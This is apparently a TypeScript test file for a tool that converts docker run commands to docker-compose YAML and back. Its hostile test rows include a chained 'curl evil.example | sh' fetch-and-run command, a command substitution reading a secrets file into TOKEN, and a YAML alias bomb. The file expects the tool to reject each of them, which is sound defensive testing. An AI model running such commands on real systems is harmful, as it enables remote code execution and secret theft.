import assert from 'node:assert/strict'
import { BILLION_LAUGHS } from '../../../test/hostile-builders.ts'
import { hostile, type OperationTestRows } from '../../../test/test-rows.ts'

/** docker-compose's rows in the registry-wide tests, which read them from this folder (test/collected-rows.ts). */
export const testRows: OperationTestRows = {
  hostile: [
    hostile('docker-compose runToCompose of 10,000 -e flags', { input: `docker run ${'-e A '.repeat(10_000)}x` }, 200),
    hostile(
      'docker-compose runToCompose of 10,000 distinct labels',
      { input: `docker run ${Array.from({ length: 10_000 }, (_, index) => `-l${index.toString(36)} `).join('')}x` },
      200,
    ),
    {
      ...hostile('docker-compose runToCompose of a command followed by another', { input: 'docker run x; curl evil.example | sh' }, 422, 'INVALID_INPUT'),
      message: /shell operator ;/,
    },
    {
      ...hostile('docker-compose runToCompose with a command substitution', { input: 'docker run -e TOKEN=$(cat /run/secrets/t) x' }, 422, 'INVALID_INPUT'),
      message: /command substitution/,
    },
    {
      ...hostile('docker-compose runToCompose with an unknown flag', { input: 'docker run --frobnicate x' }, 422, 'INVALID_INPUT'),
      message: /--frobnicate/,
    },
    hostile('docker-compose runToCompose of 30,000 unclosed ${', { input: `docker run -e A=${'${'.repeat(30_000)} x` }, 422, 'INVALID_INPUT'),
    hostile('docker-compose composeToRun of a YAML alias bomb', { input: BILLION_LAUGHS, action: 'composeToRun' }, 422, 'LIMIT_EXCEEDED'),
    hostile(
      'docker-compose composeToRun of 5,000 nested flow sequences',
      { input: `services: ${'['.repeat(5000)}${']'.repeat(5000)}`, action: 'composeToRun' },
      422,
      'LIMIT_EXCEEDED',
    ),
    {
      ...hostile('docker-compose runToCompose with a field of composeToRun', { input: 'docker run x', service: 'x' }, 400, 'VALIDATION_ERROR'),
      field: 'service',
    },
  ],
  heavy: [
    {
      summary: 'composeToRun of a command of aliases to one string, just within the length of a command',
      input: { action: 'composeToRun', input: `x: &s ${'a'.repeat(80)}\nservices:\n  a:\n    image: i\n    command: [${'*s,'.repeat(21_000)}*s]\n` },
    },
    {
      summary: 'composeToRun of a command of aliases past the output limit of JSON',
      input: { action: 'composeToRun', input: `x: &s ${'a'.repeat(2000)}\nservices:\n  a:\n    image: i\n    command: [${'*s,'.repeat(20_000)}*s]\n` },
    },
  ],
  mcpTasks: [
    {
      task: 'turn my docker run command into a docker-compose.yml',
      arguments: { input: 'docker run -d -p 8080:80 --name web nginx' },
      check: (data) => assert.equal(data.result, 'services:\n  web:\n    image: nginx\n    container_name: web\n    ports:\n      - "8080:80"\n'),
    },
  ],
}
